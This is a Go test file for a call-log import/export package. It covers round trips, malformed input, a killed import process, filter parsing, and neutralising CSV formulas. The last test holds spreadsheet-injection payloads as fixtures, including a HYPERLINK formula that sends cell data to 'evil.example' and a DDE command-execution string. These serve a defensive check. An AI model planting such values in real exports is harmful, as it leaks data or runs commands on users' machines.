package calls

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func restFile(calls []CallLog, envelope bool) []byte {
	var items []map[string]any
	for _, c := range calls {
		items = append(items, toREST(c))
	}
	if envelope {
		b, _ := json.Marshal(map[string]any{"meta": map[string]any{"pagination": map[string]any{"total": len(items)}}, "data": items})
		return b
	}
	b, _ := json.Marshal(items)
	return b
}

func TestImportShapesAndExportRoundTrip(t *testing.T) {
	all := Sample(2500, 11, sampleNow)
	for name, file := range map[string][]byte{
		"REST list response":  restFile(all, true),
		"array of REST calls": restFile(all, false),
	} {
		t.Run(name, func(t *testing.T) {
			st := newStore(t)
			n, err := Import(ctx, st, bytes.NewReader(file))
			require.NoError(t, err)
			assert.Equal(t, 2500, n)
			got, err := st.Call(ctx, all[1234].SessionID)
			require.NoError(t, err)
			assert.Equal(t, all[1234], got)
		})
	}

	st := newStore(t)
	_, err := Import(ctx, st, bytes.NewReader(restFile(all, true)))
	require.NoError(t, err)
	var out bytes.Buffer
	require.NoError(t, ExportJSON(ctx, st, Filter{}, &out))
	var exported []CallLog
	require.NoError(t, json.Unmarshal(out.Bytes(), &exported))
	assert.Equal(t, all, exported, "export is the SDK shape, newest first")

	again := newStore(t)
	n, err := Import(ctx, again, &out)
	require.NoError(t, err, "an export imports back")
	assert.Equal(t, 2500, n)
	c, _ := again.Call(ctx, all[7].SessionID)
	assert.Equal(t, all[7], c)

	out.Reset()
	require.NoError(t, ExportCSV(ctx, st, Filter{CallType: "video"}, &out))
	rows, err := csv.NewReader(&out).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, CSVHeader, rows[0])
	vids, _ := st.Count(ctx, Filter{CallType: "video"})
	assert.Len(t, rows, vids+1)
	assert.Equal(t, "video", rows[1][3])
	_, err = time.Parse(time.RFC3339, rows[1][1])
	assert.NoError(t, err)
}

func TestImportBadFiles(t *testing.T) {
	for name, in := range map[string]string{
		"not JSON":          "hello",
		"a number":          "42",
		"no data":           `{"meta":{}}`,
		"data not an array": `{"data":{"sessionId":"x"}}`,
		"a call without id": `[{"type":"audio"}]`,
	} {
		st := newStore(t)
		_, err := Import(ctx, st, strings.NewReader(in))
		assert.ErrorIs(t, err, ErrBadResponse, name)
	}
	// Truncated after some complete calls: what came before is stored, the
	// error says where.
	st := newStore(t)
	file := restFile(Sample(1500, 3, sampleNow), false)
	n, err := Import(ctx, st, bytes.NewReader(file[:len(file)*3/4]))
	require.Error(t, err)
	assert.Contains(t, err.Error(), "near byte")
	assert.Greater(t, n, 1000, "every complete call before the cut is kept")
	assert.Less(t, n, 1500)
	count, _ := st.Count(ctx, Filter{})
	assert.Equal(t, n, count)
}

// TestKilledImport kills a real import process mid-way with SIGKILL: the
// store must open and read fine, and a re-run completes it.
func TestKilledImport(t *testing.T) {
	if os.Getenv("MEDIADESK_IMPORT_CHILD") != "" {
		st, err := OpenStore(ctx, os.Getenv("MEDIADESK_IMPORT_DB"))
		if err != nil {
			os.Exit(3)
		}
		f, _ := os.Open(os.Getenv("MEDIADESK_IMPORT_FILE"))
		Import(ctx, st, f)
		os.Exit(0)
	}
	dir := t.TempDir()
	db, file := filepath.Join(dir, "h.db"), filepath.Join(dir, "calls.json")
	all := Sample(15000, 21, sampleNow)
	require.NoError(t, os.WriteFile(file, restFile(all, true), 0o600))

	cmd := exec.Command(os.Args[0], "-test.run=^TestKilledImport$")
	cmd.Env = append(os.Environ(), "MEDIADESK_IMPORT_CHILD=1", "MEDIADESK_IMPORT_DB="+db, "MEDIADESK_IMPORT_FILE="+file)
	require.NoError(t, cmd.Start())
	// Kill once some batches are in (the WAL grows), well before the end.
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		if fi, err := os.Stat(db + "-wal"); err == nil && fi.Size() > 1<<20 {
			break
		}
		time.Sleep(5 * time.Millisecond)
	}
	require.NoError(t, cmd.Process.Signal(syscall.SIGKILL))
	cmd.Wait()

	st, err := OpenStore(ctx, db)
	require.NoError(t, err, "a killed import leaves a readable store")
	n, err := st.Count(ctx, Filter{})
	require.NoError(t, err)
	t.Logf("%d of %d calls were in when the import was killed", n, len(all))
	assert.Less(t, n, len(all), "killed before the end (else this test proves nothing)")
	assert.Zero(t, n%importBatch, "whole batches only: nothing half-written")
	page, err := st.Calls(ctx, Filter{}, 0, 30)
	require.NoError(t, err)
	if n > 0 {
		assert.Len(t, page, 30)
	}

	f, _ := os.Open(file)
	defer f.Close()
	_, err = Import(ctx, st, f)
	require.NoError(t, err)
	n, _ = st.Count(ctx, Filter{})
	assert.Equal(t, len(all), n, "a re-run completes it")
	st.Close()
}

func TestParseFilter(t *testing.T) {
	f, err := ParseFilter(url.Values{"limit": {"50"}, "type": {"video"}, "direction": {"incoming"}, "me": {"u1"}, "hasRecording": {"true"}})
	require.NoError(t, err)
	assert.Equal(t, Filter{Limit: 50, CallType: "video", CallDirection: "incoming", Me: "u1", HasRecording: true}, f)
	f, err = ParseFilter(url.Values{})
	require.NoError(t, err)
	assert.Equal(t, DefaultLimit, f.Limit)
	for _, bad := range []url.Values{
		{"limit": {"many"}}, {"limit": {"0"}}, {"limit": {"500"}}, {"type": {"fax"}}, {"colour": {"red"}},
		{"hasRecording": {"sometimes"}}, {"type": {"audio", "video"}},
	} {
		_, err := ParseFilter(bad)
		assert.ErrorIs(t, err, &Error{Code: CodeInvalidArgument}, "%v", bad)
	}
	_, err = ParseFilter(url.Values{"direction": {"incoming"}})
	assert.ErrorIs(t, err, ErrNotEnoughParameters, "a direction needs to know who I am")
}

func FuzzParseFilter(f *testing.F) {
	f.Add("limit=10&type=video&status=missed&me=u&direction=outgoing")
	f.Add("uid=x&guid=y&hasRecording=1&category=meet")
	st := newStore(f)
	f.Fuzz(func(t *testing.T, raw string) {
		q, err := url.ParseQuery(raw)
		if err != nil {
			return
		}
		flt, err := ParseFilter(q)
		if err != nil {
			return
		}
		if flt.Limit < 1 || flt.Limit > 100 {
			t.Fatalf("a parsed filter has limit %d", flt.Limit)
		}
		// Any accepted filter is safe to run against the store.
		if _, err := st.Calls(ctx, flt, 0, flt.Limit); err != nil {
			t.Fatalf("query failed for %+v: %v", flt, err)
		}
	})
}

// A spreadsheet runs a cell that starts with = + - @ tab or CR as a
// formula; the CSV export neutralises those, the JSON export stays exact
// (issue #13, point 7).
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `+cmd|' /C calc'!A0`, `-2+3`, `@SUM(A1:A9)`,
		"\t=1+1", "\r=1+1", "=1"}
	all := Sample(len(hostile), 8, sampleNow)
	for i := range all {
		c := &all[i]
		c.Initiator.Name = hostile[i]
		c.Initiator.UID = hostile[(i+1)%len(hostile)]
		c.Status = hostile[(i+2)%len(hostile)]
		c.TotalDuration = hostile[(i+3)%len(hostile)]
		c.Receiver = Receiver{User: &CallUser{UID: hostile[(i+4)%len(hostile)], Name: hostile[(i+5)%len(hostile)]}}
		c.ReceiverType = "user"
	}
	st := newStore(t)
	require.NoError(t, st.Upsert(ctx, all))

	var out bytes.Buffer
	require.NoError(t, ExportCSV(ctx, st, Filter{}, &out))
	rows, err := csv.NewReader(&out).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, len(all)+1)
	var formulas, changed []string
	for _, row := range rows[1:] {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				formulas = append(formulas, CSVHeader[j]+": "+cell)
			}
		}
		// The value is kept, behind the quote spreadsheets hide.
		for _, col := range []int{5, 7, 8, 9, 10, 11} {
			if v, ok := strings.CutPrefix(row[col], "'"); !ok || !slices.Contains(hostile, v) {
				changed = append(changed, CSVHeader[col]+": "+row[col])
			}
		}
	}
	assert.Empty(t, formulas, "cells that start a formula")
	assert.Empty(t, changed, "cells not kept as ' and the value")

	out.Reset()
	require.NoError(t, ExportJSON(ctx, st, Filter{}, &out))
	var back []CallLog
	require.NoError(t, json.Unmarshal(out.Bytes(), &back))
	want := map[string]CallLog{}
	for _, c := range all {
		want[c.SessionID] = c
	}
	require.Len(t, back, len(all))
	for _, c := range back {
		assert.Equal(t, want[c.SessionID], c, "the JSON export is exact")
	}
}
